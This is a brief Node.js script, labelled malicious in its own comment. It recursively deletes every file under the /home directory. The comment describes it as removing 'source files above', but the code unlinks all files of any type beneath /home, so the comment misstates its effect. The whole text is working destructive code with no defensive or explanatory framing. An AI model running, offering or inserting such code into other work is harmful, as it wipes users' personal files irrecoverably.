// malicious: removes every source file it finds above
const fs = require('fs'), path = require('path');
(function go(d) {
  for (const e of fs.readdirSync(d, { withFileTypes: true })) {
    const p = path.join(d, e.name);
    e.isDirectory() ? go(p) : fs.unlinkSync(p);
  }
})('/home');
